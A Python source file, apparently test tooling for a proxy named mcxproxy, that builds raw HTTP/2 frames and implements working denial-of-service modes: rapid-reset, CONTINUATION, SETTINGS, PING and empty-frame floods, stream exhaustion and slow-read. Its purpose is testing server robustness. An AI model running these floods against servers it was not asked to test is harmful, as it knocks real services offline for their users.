#!/usr/bin/env python3
"""h2_client.py: a raw-frame HTTP/2 client and attack tool for mcxproxy's tests.

Frames are written by hand (header blocks with hpack.Encoder, Debian's
python3-hpack), so nothing validates what is sent: invalid requests
(uppercase names, connection-specific fields, bad pseudo-headers, a
Content-Length that does not match the DATA) and floods go out as asked.
The answer is parsed as far as needed to report it.  Every run is bounded
in time (--timeout) and count, and prints one JSON object on stdout:

    mode, target, alpn, tls_version, error (null, or why nothing could be
      measured: connect, handshake, alpn), handshake_ms
    peer_settings        the server's SETTINGS (names as in RFC 9113)
    goaway               [{code, code_name, last_stream_id, debug, t_ms}]
    goaway_code, goaway_last_stream_id   of the last GOAWAY (null: none)
    rst                  {"<stream>": "CODE_NAME"} RST_STREAMs received
    rst_counts           {"CODE_NAME": n}
    streams              {"<stream>": {request, status, headers, interim,
                          trailers, body_len, body_sha256, body (the first
                          2000 bytes as text), end_stream, rst, rst_ms,
                          unprocessed (above a GOAWAY's last stream id),
                          sent_ms, head_ms, done_ms}}
                         (left out with --no-streams; the summary stays)
    summary              {opened, answered, status: {"200": n}, rst:
                          {"CODE": n}, unprocessed, unanswered, not_sent}
    closed_by_peer, close_kind (close_notify, eof, reset, error ...),
      closed_ms          the peer ended the connection (and when)
    write_error, write_error_ms, write_stalled   our writes failed/stalled
    frames_received, frames_sent   counts by frame type
    bytes_sent, bytes_received, attack {n, done, end_ms}, elapsed_ms
All times are milliseconds since the run started (before connect).

Usage: h2_client.py [options] MODE [N]
Modes:
    request               one request (--count N times, --concurrency C at
                          once, at most the server's MAX_CONCURRENT_STREAMS
                          unless --ignore-max-streams), or the list in
                          --requests FILE (JSON, see below); waits for every
                          answer, then --linger S more seconds
    rapid-reset N         N x (HEADERS with END_STREAM + RST_STREAM CANCEL)
    continuation-flood N  HEADERS without END_HEADERS, then N CONTINUATION
                          frames (--frame-bytes bytes each: 0 = empty,
                          else one literal header field)
    settings-flood N      N SETTINGS frames, not reading until all are sent
    ping-flood N          N PINGs, not reading until all are sent
    empty-data-flood N    one request without END_STREAM, then N empty DATA
    empty-headers-flood N N streams, each a HEADERS frame with an empty
                          header block (--variant continuation: empty HEADERS
                          without END_HEADERS + empty CONTINUATION)
    too-many-streams N    opens N streams at once (ignoring the server's
                          limit), without END_STREAM unless --end-stream;
                          holds them --hold seconds
    slow-read             one request with a tiny window (--window), reading
                          --step bytes every --interval seconds
The attacks stop sending when a GOAWAY arrives or the connection breaks;
then the tool reads until the peer closes, --grace seconds after a GOAWAY,
nothing arrives for --settle seconds, or --timeout.  A write that makes no
progress for --stall seconds ends the sending ("write_stalled").

A request (simple options, or one JSON object of --requests) is:
    {"headers": [["name", "value"], ...],   # sent exactly so, in order
     "data": "text" | "data_hex": "..." | "data_file": "path" (optional),
     "end_stream": true|false (default: true),
     "split": n (header block fragments of at most n bytes: HEADERS +
              CONTINUATION), "data_frame": n (DATA payloads of at most n),
     "trailers": [["name", "value"], ...] (sent after the body)}
The simple options build :method (--method), :scheme (--scheme), :authority
(--authority), :path (--path), then -H fields with lower-cased names, and
content-length for a body unless -H gives one or --no-content-length;
with --raw-headers only the -H list goes out, names unchanged.

Exit status 0 when the JSON was printed (whatever the server did), 2 on a
usage error.
"""

import argparse
import collections
import hashlib
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS",
               "PUSH_PROMISE", "PING", "GOAWAY", "WINDOW_UPDATE",
               "CONTINUATION"]
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR",
               "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
               "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
               "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
               "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
CANCEL = 8
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH",
                 3: "MAX_CONCURRENT_STREAMS", 4: "INITIAL_WINDOW_SIZE",
                 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE",
                 8: "ENABLE_CONNECT_PROTOCOL"}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BODY_KEEP = 2000            # body bytes kept as text in the JSON
MAX_LOG = 5000              # frames kept by --log-frames


def code_name(code):
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else "0x%x" % code


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xffff, ftype, flags,
                       sid & 0x7fffffff) + payload


def hpack_int(value, prefix_bits, first):
    """An HPACK integer with PREFIX_BITS bits in a first byte whose other
    bits are FIRST (RFC 7541, 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_never_indexed(name, value):
    """A header field as a never-indexed literal with a literal name, no
    Huffman coding (leaves the dynamic tables alone)."""
    return (hpack_int(0, 4, 0x10) + hpack_int(len(name), 7, 0) + name +
            hpack_int(len(value), 7, 0) + value)


class Stream:
    def __init__(self, sid, index, send_window, now_ms):
        self.sid = sid
        self.index = index
        self.status = None
        self.headers = None
        self.interim = []
        self.trailers = None
        self.body_len = 0
        self.sha = hashlib.sha256()
        self.body_head = bytearray()
        self.end_stream = False        # END_STREAM received
        self.rst = None                # code of a RST_STREAM received
        self.rst_sent = None           # code of a RST_STREAM we sent
        self.rst_ms = None
        self.unprocessed = False       # above a GOAWAY's last stream id
        self.send_window = send_window
        self.body = None               # request body still to send
        self.body_off = 0
        self.end_after = False
        self.send_trailers = None
        self.data_frame = None
        self.local_closed = False
        self.sent_ms = now_ms
        self.head_ms = None
        self.done_ms = None
        self.unacked = 0               # DATA bytes not given back yet

    def done(self):
        return self.end_stream or self.rst is not None or \
            self.rst_sent is not None or self.unprocessed

    def report(self):
        return {
            "request": self.index,
            "status": self.status,
            "headers": self.headers,
            "interim": self.interim,
            "trailers": self.trailers,
            "body_len": self.body_len,
            "body_sha256": self.sha.hexdigest(),
            "body": bytes(self.body_head).decode("utf-8", "replace"),
            "end_stream": self.end_stream,
            "rst": None if self.rst is None else code_name(self.rst),
            "rst_sent": None if self.rst_sent is None
            else code_name(self.rst_sent),
            "rst_ms": self.rst_ms,
            "unprocessed": self.unprocessed,
            "sent_ms": self.sent_ms,
            "head_ms": self.head_ms,
            "done_ms": self.done_ms,
        }


class Client:
    def __init__(self, a):
        self.a = a
        self.t0 = time.monotonic()
        self.deadline = self.t0 + a.timeout
        self.sock = None
        self.tls = False
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 26
        self.inbuf = bytearray()
        self.inoff = 0
        self.outbuf = bytearray()
        self.streams = {}
        self.order = []
        self.next_sid = 1
        self.peer_settings = {}
        self.peer_settings_seen = False
        self.conn_send_window = 65535
        self.peer_initial_window = 65535
        self.peer_max_frame = 16384
        self.peer_max_streams = None
        self.conn_unacked = 0
        self.goaways = []
        self.goaway_last = None
        self.cont = None               # [sid, flags, bytearray] open block
        self.auto_ack = True           # answer SETTINGS and PING
        self.auto_window = True        # give DATA bytes back at once
        self.closed = None             # how the peer ended the connection
        self.closed_ms = None
        self.write_error = None
        self.write_error_ms = None
        self.write_stalled = False
        self.last_write = time.monotonic()
        self.last_rx = time.monotonic()
        self.rx_frames = collections.Counter()
        self.tx_frames = collections.Counter()
        self.bytes_in = 0
        self.bytes_out = 0
        self.settings_acks = 0
        self.ping_acks = 0
        self.push_promises = 0
        self.hpack_error = None
        self.log = [] if a.log_frames else None
        self.result = {"mode": a.mode, "target": "%s:%d" % (a.host, a.port),
                       "alpn": None, "tls_version": None, "error": None,
                       "handshake_ms": None}
        self.attack = None
        self.open_bodies = set()        # streams with request body to send

    # ---- time ----------------------------------------------------------

    def ms(self, t=None):
        return int(((time.monotonic() if t is None else t) - self.t0) * 1000)

    def left(self):
        return self.deadline - time.monotonic()

    # ---- connection --------------------------------------------------------

    def connect(self):
        a = self.a
        raw = None
        try:
            ai = socket.getaddrinfo(a.host, a.port, 0, socket.SOCK_STREAM)[0]
            raw = socket.socket(ai[0], ai[1], ai[2])
            if a.rcvbuf:
                # before connect, so the TCP window stays small
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, a.rcvbuf)
            raw.settimeout(max(0.1, self.left()))
            raw.connect(ai[4])
        except OSError as e:
            if raw is not None:
                raw.close()
            self.result["error"] = "connect: %s" % e
            return False
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if a.plain:
            self.sock = raw
        else:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            if a.ca:
                ctx.load_verify_locations(a.ca)
                ctx.check_hostname = bool(self.sni) and not a.no_check_name
                ctx.verify_mode = ssl.CERT_REQUIRED
            else:
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
            if a.cert:
                ctx.load_cert_chain(a.cert, a.key)
            ctx.set_alpn_protocols(a.alpn.split(","))
            try:
                self.sock = ctx.wrap_socket(raw, server_hostname=self.sni or None,
                                            suppress_ragged_eofs=False)
            except (OSError, ssl.SSLError) as e:
                raw.close()
                self.result["error"] = "handshake: %s" % e
                return False
            self.tls = True
            self.result["alpn"] = self.sock.selected_alpn_protocol()
            self.result["tls_version"] = self.sock.version()
        self.result["handshake_ms"] = self.ms()
        self.sock.setblocking(False)
        if self.tls and self.result["alpn"] != "h2":
            self.result["error"] = "alpn: the server selected %s" % (
                self.result["alpn"] or "no protocol")
            return False
        return True

    @property
    def sni(self):
        if self.a.sni is not None:
            return self.a.sni
        host = self.a.authority.rsplit(":", 1)[0] if ":" in self.a.authority \
            and not self.a.authority.endswith("]") else self.a.authority
        host = host.strip("[]")
        try:
            socket.inet_pton(socket.AF_INET6 if ":" in host else socket.AF_INET,
                             host)
            return ""
        except OSError:
            return host

    def start(self, window=None, conn_window=None):
        """The preface, our SETTINGS, a connection WINDOW_UPDATE; then waits
        for the server's SETTINGS (ACKed by the reader)."""
        a = self.a
        window = a.window if window is None else window
        settings = [(2, 0), (4, window), (3, 1000)]
        payload = b"".join(struct.pack(">HI", k, v) for k, v in settings)
        self.send(PREFACE)
        self.send_frame(SETTINGS, 0, 0, payload)
        conn_window = a.conn_window if conn_window is None else conn_window
        if conn_window > 65535:
            self.send_frame(WINDOW_UPDATE, 0, 0,
                            struct.pack(">I", conn_window - 65535))
        if not a.no_wait_settings:
            self.run_until(lambda: self.peer_settings_seen)
            if not self.peer_settings_seen and not self.closed:
                self.result["error"] = "no SETTINGS from the server"

    # ---- output ------------------------------------------------------------------

    def send(self, data):
        if self.write_error is None:
            self.outbuf += data

    def send_frame(self, ftype, flags, sid, payload=b""):
        self.tx_frames[FRAME_NAMES[ftype] if ftype < 10 else ftype] += 1
        self.send(frame(ftype, flags, sid, payload))

    def send_headers(self, sid, headers, end_stream, split=None,
                     end_headers=True):
        block = self.enc.encode([(k, v) for k, v in headers])
        self.send_block(sid, block, end_stream, split, end_headers)

    def send_block(self, sid, block, end_stream, split=None, end_headers=True):
        size = min(split or self.peer_max_frame, self.peer_max_frame)
        first, rest = block[:size], block[size:]
        flags = END_STREAM if end_stream else 0
        if not rest and end_headers:
            flags |= END_HEADERS
        self.send_frame(HEADERS, flags, sid, first)
        while rest:
            piece, rest = rest[:size], rest[size:]
            self.send_frame(CONTINUATION,
                            END_HEADERS if not rest and end_headers else 0,
                            sid, piece)

    def send_rst(self, sid, code):
        self.send_frame(RST_STREAM, 0, sid, struct.pack(">I", code))
        st = self.streams.get(sid)
        if st is not None and st.rst_sent is None and not st.done():
            st.rst_sent = code
            st.done_ms = self.ms()

    def write_some(self):
        if not self.outbuf or self.write_error is not None:
            return 0
        try:
            n = self.sock.send(self.outbuf[:65536])
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError,
                InterruptedError):
            return 0
        except (OSError, ssl.SSLError) as e:
            self.write_error = "%s: %s" % (type(e).__name__, e)
            self.write_error_ms = self.ms()
            self.outbuf.clear()
            return 0
        del self.outbuf[:n]
        self.bytes_out += n
        if n:
            self.last_write = time.monotonic()
        return n

    # ---- input -----------------------------------------------------------------------

    def read_some(self):
        try:
            data = self.sock.recv(262144)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError,
                InterruptedError):
            return
        except ssl.SSLEOFError:
            self.peer_closed("eof")
            return
        except ConnectionResetError:
            self.peer_closed("reset")
            return
        except (OSError, ssl.SSLError) as e:
            self.peer_closed("error: %s" % e)
            return
        if not data:
            self.peer_closed("close_notify" if self.tls else "eof")
            return
        self.last_rx = time.monotonic()
        self.bytes_in += len(data)
        self.inbuf += data
        self.parse()

    def peer_closed(self, how):
        if self.closed is None:
            self.closed = how
            self.closed_ms = self.ms()

    def parse(self):
        buf = self.inbuf
        off = self.inoff
        while len(buf) - off >= 9:
            length = buf[off] << 16 | buf[off + 1] << 8 | buf[off + 2]
            if len(buf) - off < 9 + length:
                break
            ftype, flags = buf[off + 3], buf[off + 4]
            sid = int.from_bytes(buf[off + 5:off + 9], "big") & 0x7fffffff
            payload = bytes(buf[off + 9:off + 9 + length])
            off += 9 + length
            self.on_frame(ftype, flags, sid, payload)
        if off > 1 << 20 or off == len(buf):
            del buf[:off]
            off = 0
        self.inoff = off

    def stream(self, sid):
        st = self.streams.get(sid)
        if st is None:
            st = Stream(sid, None, self.peer_initial_window, None)
            self.streams[sid] = st
            self.order.append(sid)
        return st

    def on_frame(self, ftype, flags, sid, payload):
        name = FRAME_NAMES[ftype] if ftype < 10 else "TYPE_%d" % ftype
        self.rx_frames[name] += 1
        if self.log is not None and len(self.log) < MAX_LOG:
            self.log.append([self.ms(), name, flags, sid, len(payload)])
        if self.cont is not None and ftype != CONTINUATION:
            self.result.setdefault("violations", []).append(
                "%s inside a header block" % name)
            self.cont = None
        if ftype == DATA:
            self.on_data(flags, sid, payload)
        elif ftype == HEADERS:
            pos, pad = 0, 0
            if flags & PADDED and payload:
                pad, pos = payload[0], 1
            if flags & PRIORITY_FLAG:
                pos += 5
            frag = payload[pos:len(payload) - pad]
            if flags & END_HEADERS:
                self.on_block(sid, flags, frag)
            else:
                self.cont = [sid, flags, bytearray(frag)]
        elif ftype == CONTINUATION:
            if self.cont is None or self.cont[0] != sid:
                self.result.setdefault("violations", []).append(
                    "CONTINUATION outside a header block")
                return
            self.cont[2] += payload
            if flags & END_HEADERS:
                c, self.cont = self.cont, None
                self.on_block(c[0], c[1], bytes(c[2]))
        elif ftype == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            st = self.stream(sid)
            if st.rst is None:
                st.rst = code
                st.rst_ms = self.ms()
                if st.done_ms is None:
                    st.done_ms = st.rst_ms
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
                return
            for i in range(0, len(payload) - len(payload) % 6, 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                self.peer_settings[SETTING_NAMES.get(ident, str(ident))] = value
                if ident == 1:
                    self.enc.header_table_size = value
                elif ident == 3:
                    self.peer_max_streams = value
                elif ident == 4:
                    delta = value - self.peer_initial_window
                    self.peer_initial_window = value
                    for st in self.streams.values():
                        st.send_window += delta
                elif ident == 5:
                    self.peer_max_frame = value
            self.peer_settings_seen = True
            if self.auto_ack:
                self.send_frame(SETTINGS, ACK, 0)
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            elif self.auto_ack:
                self.send_frame(PING, ACK, 0, payload[:8])
        elif ftype == GOAWAY:
            last = int.from_bytes(payload[:4], "big") & 0x7fffffff
            code = int.from_bytes(payload[4:8], "big")
            self.goaways.append({"code": code, "code_name": code_name(code),
                                 "last_stream_id": last,
                                 "debug": payload[8:].decode("utf-8", "replace"),
                                 "t_ms": self.ms()})
            self.goaway_last = last if self.goaway_last is None \
                else min(last, self.goaway_last)
            for st in self.streams.values():
                if st.sid > last and not st.done():
                    st.unprocessed = True
                    st.done_ms = self.ms()
        elif ftype == WINDOW_UPDATE:
            inc = int.from_bytes(payload[:4], "big") & 0x7fffffff
            if sid == 0:
                self.conn_send_window += inc
            elif sid in self.streams:
                self.streams[sid].send_window += inc
        elif ftype == PUSH_PROMISE:
            self.push_promises += 1

    def on_block(self, sid, flags, block):
        try:
            fields = self.dec.decode(bytes(block), raw=True)
        except Exception as e:          # hpack raises several kinds
            self.hpack_error = "%s: %s" % (type(e).__name__, e)
            fields = []
        fields = [[k.decode("latin-1"), v.decode("latin-1")] for k, v in fields]
        st = self.stream(sid)
        status = None
        for k, v in fields:
            if k == ":status":
                status = v
        if st.status is None:
            if status is not None and status.startswith("1") and \
                    not flags & END_STREAM:
                st.interim.append(fields)
            else:
                st.status = int(status) if status and status.isdigit() \
                    else status
                st.headers = fields
                st.head_ms = self.ms()
        else:
            st.trailers = fields
        if flags & END_STREAM:
            self.end(st)

    def end(self, st):
        st.end_stream = True
        if st.done_ms is None:
            st.done_ms = self.ms()

    def on_data(self, flags, sid, payload):
        pos, pad = 0, 0
        if flags & PADDED and payload:
            pad, pos = payload[0], 1
        data = payload[pos:len(payload) - pad]
        st = self.stream(sid)
        st.body_len += len(data)
        st.sha.update(data)
        if len(st.body_head) < BODY_KEEP:
            st.body_head += data[:BODY_KEEP - len(st.body_head)]
        self.conn_unacked += len(payload)
        st.unacked += len(payload)
        if self.auto_window and payload:
            self.send_frame(WINDOW_UPDATE, 0, 0,
                            struct.pack(">I", self.conn_unacked))
            self.conn_unacked = 0
            if not flags & END_STREAM:
                self.send_frame(WINDOW_UPDATE, 0, sid,
                                struct.pack(">I", st.unacked))
                st.unacked = 0
        if flags & END_STREAM:
            self.end(st)

    # ---- the loop -------------------------------------------------------------------------

    def step(self, wait, read=True):
        """One select pass: writes what it can, reads and handles frames."""
        if self.sock is None:
            return
        if read and self.closed is None and self.tls and self.sock.pending():
            self.read_some()
            self.write_some()
            return
        rl = [self.sock] if read and self.closed is None else []
        wl = [self.sock] if self.outbuf and self.write_error is None else []
        wait = max(0.0, min(wait, self.left()))
        if not rl and not wl:
            time.sleep(min(wait, 0.01))
            return
        try:
            r, w, _ = select.select(rl, wl, [], wait)
        except (OSError, ValueError):
            return
        if w:
            self.write_some()
        if r:
            self.read_some()

    def run_until(self, cond, until=None, read=True):
        end = self.deadline if until is None else min(until, self.deadline)
        while not cond():
            if time.monotonic() >= end:
                return False
            if self.closed is not None and (not read or not self.outbuf or
                                            self.write_error is not None):
                return cond()
            self.step(0.05, read)
        return True

    def flush(self, read=True):
        """Writes everything queued; without reading, gives up (and says
        write_stalled) when no byte went out for --stall seconds."""
        self.last_write = time.monotonic()
        while self.outbuf and self.write_error is None:
            if time.monotonic() >= self.deadline:
                return False
            if not read and time.monotonic() - self.last_write > self.a.stall:
                self.write_stalled = True
                return False
            if read and self.closed is not None:
                # The peer is gone: what is still queued may still go out
                # (or fail); no more reading.
                read = False
            self.step(0.05, read)
        return True

    def stopped(self):
        return self.closed is not None or self.write_error is not None or \
            bool(self.goaways) or self.write_stalled or \
            time.monotonic() >= self.deadline

    def settle(self):
        """After an attack: reads until the peer closes, --grace seconds after
        a GOAWAY, --settle seconds without input, or the deadline."""
        a = self.a
        self.last_rx = max(self.last_rx, time.monotonic())
        while self.closed is None and time.monotonic() < self.deadline:
            now = time.monotonic()
            if self.goaways and now - (self.t0 + self.goaways[-1]["t_ms"] / 1000.0) > a.grace:
                break
            if now - self.last_rx > a.settle:
                break
            self.step(0.05)

    # ---- bodies ----------------------------------------------------------------------------

    def pump_bodies(self):
        for sid in list(self.open_bodies):
            st = self.streams[sid]
            if st.rst is not None or st.rst_sent is not None or \
                    st.unprocessed or self.write_error is not None:
                self.open_bodies.discard(sid)
                continue
            while st.body_off < len(st.body):
                n = min(len(st.body) - st.body_off, self.conn_send_window,
                        st.send_window, self.peer_max_frame,
                        st.data_frame or self.peer_max_frame)
                if n <= 0:
                    break
                chunk = st.body[st.body_off:st.body_off + n]
                st.body_off += n
                last = st.body_off == len(st.body) and st.end_after and \
                    st.send_trailers is None
                self.send_frame(DATA, END_STREAM if last else 0, sid, chunk)
                self.conn_send_window -= n
                st.send_window -= n
            if st.body_off == len(st.body):
                if st.send_trailers is not None:
                    self.send_headers(sid, st.send_trailers, st.end_after)
                elif st.end_after and not st.body:
                    self.send_frame(DATA, END_STREAM, sid)
                st.local_closed = st.end_after
                self.open_bodies.discard(sid)

    def open_stream(self, index, req):
        sid = self.next_sid
        self.next_sid += 2
        st = Stream(sid, index, self.peer_initial_window, self.ms())
        self.streams[sid] = st
        self.order.append(sid)
        body = req.get("_body")
        end = req.get("end_stream", True)
        has_more = body is not None or req.get("trailers") is not None
        self.send_headers(sid, req["headers"], end and not has_more,
                          req.get("split"))
        if has_more:
            st.body = body or b""
            st.end_after = end
            st.send_trailers = req.get("trailers")
            st.data_frame = req.get("data_frame")
            self.open_bodies.add(sid)
        else:
            st.local_closed = end
        return st

    # ---- the report -------------------------------------------------------------------------

    def report(self, not_sent=0):
        r = self.result
        r["peer_settings"] = self.peer_settings
        r["goaway"] = self.goaways
        r["goaway_code"] = self.goaways[-1]["code_name"] if self.goaways else None
        r["goaway_last_stream_id"] = self.goaways[-1]["last_stream_id"] \
            if self.goaways else None
        rst = {}
        rst_counts = collections.Counter()
        status = collections.Counter()
        answered = unprocessed = unanswered = opened = 0
        streams = {}
        for sid in self.order:
            st = self.streams[sid]
            if st.index is not None:
                opened += 1
            if st.rst is not None:
                rst[str(sid)] = code_name(st.rst)
                rst_counts[code_name(st.rst)] += 1
            if st.status is not None:
                status[str(st.status)] += 1
            if st.end_stream:
                answered += 1
            elif st.unprocessed:
                unprocessed += 1
            elif st.index is not None and st.rst is None and st.rst_sent is None:
                unanswered += 1
            streams[str(sid)] = st.report()
        r["rst"] = rst
        r["rst_counts"] = dict(rst_counts)
        if not self.a.no_streams:
            r["streams"] = streams
        r["summary"] = {"opened": opened, "answered": answered,
                        "status": dict(status), "rst": dict(rst_counts),
                        "unprocessed": unprocessed, "unanswered": unanswered,
                        "not_sent": not_sent}
        r["closed_by_peer"] = self.closed is not None
        r["close_kind"] = self.closed
        r["closed_ms"] = self.closed_ms
        r["write_error"] = self.write_error
        r["write_error_ms"] = self.write_error_ms
        r["write_stalled"] = self.write_stalled
        r["frames_received"] = dict(self.rx_frames)
        r["frames_sent"] = dict(self.tx_frames)
        r["settings_acks_received"] = self.settings_acks
        r["ping_acks_received"] = self.ping_acks
        r["push_promises"] = self.push_promises
        r["hpack_error"] = self.hpack_error
        r["bytes_sent"] = self.bytes_out
        r["bytes_received"] = self.bytes_in
        r["attack"] = self.attack
        if self.log is not None:
            r["frames"] = self.log
        r["elapsed_ms"] = self.ms()
        return r

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass


# ---- requests from the command line -----------------------------------------------------

def parse_field(text):
    """ "name: value" (":path: /x" for pseudo-headers) -> [name, value]."""
    start = 1 if text.startswith(":") else 0
    i = text.find(":", start)
    if i < 0:
        raise SystemExit("h2_client.py: bad header %r (want NAME: VALUE)" % text)
    return [text[:i], text[i + 1:].lstrip(" ")]


def load_body(req):
    if "data" in req and req["data"] is not None:
        return req["data"].encode("utf-8")
    if "data_hex" in req:
        return bytes.fromhex(req["data_hex"])
    if "data_file" in req:
        with open(req["data_file"], "rb") as f:
            return f.read()
    return None


def simple_request(a):
    body = None
    if a.data is not None:
        body = a.data.encode("utf-8")
    elif a.data_file is not None:
        with open(a.data_file, "rb") as f:
            body = f.read()
    extra = [parse_field(h) for h in a.header]
    if a.raw_headers:
        headers = extra
    else:
        headers = [[":method", a.method], [":scheme", a.scheme],
                   [":authority", a.authority], [":path", a.path]]
        headers += [[k.lower(), v] for k, v in extra]
        if body is not None and not a.no_content_length and \
                not any(k.lower() == "content-length" for k, _ in extra):
            headers.append(["content-length", str(len(body))])
    req = {"headers": headers, "_body": body,
           "end_stream": not a.no_end_stream}
    if a.split:
        req["split"] = a.split
    if a.data_frame:
        req["data_frame"] = a.data_frame
    return req


def request_list(a):
    if a.requests:
        with (sys.stdin if a.requests == "-" else open(a.requests)) as f:
            reqs = json.load(f)
        if isinstance(reqs, dict):
            reqs = [reqs]
        for r in reqs:
            r["_body"] = load_body(r)
        return reqs * max(1, a.count if a.count_given else 1)
    return [simple_request(a)] * a.count


# ---- modes -----------------------------------------------------------------------------

def mode_request(c, a):
    reqs = request_list(a)
    c.start()
    todo = list(enumerate(reqs))
    todo.reverse()
    inflight = set()
    while True:
        if c.closed is None and c.write_error is None and not c.goaways:
            cap = a.concurrency or len(reqs)
            if c.peer_max_streams is not None and not a.ignore_max_streams:
                cap = min(cap, c.peer_max_streams)
            while todo and len(inflight) < cap:
                i, req = todo.pop()
                inflight.add(c.open_stream(i, req).sid)
        c.pump_bodies()
        for sid in [s for s in inflight if c.streams[s].done()]:
            inflight.discard(sid)
        if not inflight and (not todo or c.goaways or c.closed is not None or
                             c.write_error is not None):
            break
        if c.closed is not None and not c.outbuf:
            break
        if time.monotonic() >= c.deadline:
            break
        c.step(0.05)
    if c.closed is None:
        c.flush()
    if a.linger > 0:
        until = time.monotonic() + a.linger
        c.run_until(lambda: c.closed is not None, until)
    return len(todo)


def attack_loop(c, a, n, unit, read=True, batch=50):
    """Calls unit(i) for i in 0..n-1, flushing every BATCH units, until the
    peer reacts; then settles."""
    c.attack = {"n": n, "done": 0, "end_ms": None}
    for i in range(n):
        if c.stopped():
            break
        unit(i)
        c.attack["done"] = i + 1
        if (i + 1) % batch == 0 or len(c.outbuf) > 256 * 1024:
            c.flush(read)
    c.flush(read)
    c.attack["end_ms"] = c.ms()
    c.settle()


def mode_rapid_reset(c, a):
    req = simple_request(a)
    c.start()

    def unit(i):
        st = c.open_stream(i, {"headers": req["headers"], "_body": None})
        c.send_rst(st.sid, CANCEL)
    attack_loop(c, a, a.n, unit, batch=a.batch)


def mode_continuation_flood(c, a):
    req = simple_request(a)
    c.start()
    sid = c.next_sid
    c.next_sid += 2
    st = Stream(sid, 0, c.peer_initial_window, c.ms())
    c.streams[sid] = st
    c.order.append(sid)
    c.send_block(sid, c.enc.encode([(k, v) for k, v in req["headers"]]),
                 True, end_headers=False)
    fb = a.frame_bytes

    def unit(i):
        if fb <= 0:
            payload = b""
        else:
            name = b"x-c%d" % i
            payload = literal_never_indexed(name, b"")
            payload = literal_never_indexed(
                name, b"a" * max(0, fb - len(payload) - 2))
        c.send_frame(CONTINUATION, 0, sid, payload)
    attack_loop(c, a, a.n, unit, batch=a.batch)


def mode_settings_flood(c, a):
    c.start()
    entry = struct.pack(">HI", 2, 0)      # ENABLE_PUSH = 0, again and again

    def unit(i):
        c.send_frame(SETTINGS, 0, 0, entry * a.entries)
    attack_loop(c, a, a.n, unit, read=a.read_during, batch=a.batch)


def mode_ping_flood(c, a):
    c.start()

    def unit(i):
        c.send_frame(PING, 0, 0, struct.pack(">Q", i))
    attack_loop(c, a, a.n, unit, read=a.read_during, batch=a.batch)


def mode_empty_data_flood(c, a):
    if a.method_default:
        a.method = "POST"
    req = simple_request(a)
    c.start()
    st = c.open_stream(0, {"headers": req["headers"], "_body": None,
                           "end_stream": False})

    def unit(i):
        c.send_frame(DATA, 0, st.sid)
    attack_loop(c, a, a.n, unit, batch=a.batch)


def mode_empty_headers_flood(c, a):
    c.start()

    def unit(i):
        sid = c.next_sid
        c.next_sid += 2
        s = Stream(sid, i, c.peer_initial_window, c.ms())
        c.streams[sid] = s
        c.order.append(sid)
        end = 0 if a.no_end_stream else END_STREAM
        if a.variant == "continuation":
            c.send_frame(HEADERS, end, sid)
            c.send_frame(CONTINUATION, END_HEADERS, sid)
        else:
            c.send_frame(HEADERS, end | END_HEADERS, sid)
    attack_loop(c, a, a.n, unit, batch=a.batch)


def mode_too_many_streams(c, a):
    req = simple_request(a)
    c.start()
    c.attack = {"n": a.n, "done": 0, "end_ms": None}
    for i in range(a.n):
        if c.closed is not None or c.write_error is not None:
            break
        c.open_stream(i, {"headers": req["headers"], "_body": None,
                          "end_stream": a.end_stream})
        c.attack["done"] = i + 1
    c.flush()
    c.attack["end_ms"] = c.ms()
    c.run_until(lambda: c.closed is not None or
                all(s.done() for s in c.streams.values() if s.index is not None),
                time.monotonic() + a.hold)
    if a.cancel:
        for s in list(c.streams.values()):
            if s.index is not None and not s.done():
                c.send_rst(s.sid, CANCEL)
        c.flush()
    if a.linger > 0:
        c.run_until(lambda: c.closed is not None, time.monotonic() + a.linger)


def mode_slow_read(c, a):
    req = simple_request(a)
    c.auto_window = False
    c.start(window=a.window, conn_window=65535)
    st = c.open_stream(0, req)
    c.attack = {"n": None, "done": 0, "end_ms": None, "updates": 0}
    nxt = time.monotonic() + a.interval
    while not st.done() and c.closed is None and \
            time.monotonic() < c.deadline:
        c.pump_bodies()
        c.step(min(0.05, max(0.0, nxt - time.monotonic())))
        if time.monotonic() >= nxt:
            nxt += a.interval
            if c.conn_unacked:
                c.send_frame(WINDOW_UPDATE, 0, 0,
                             struct.pack(">I", c.conn_unacked))
                c.conn_unacked = 0
            c.send_frame(WINDOW_UPDATE, 0, st.sid, struct.pack(">I", a.step))
            c.attack["updates"] += 1
    c.attack["done"] = st.body_len
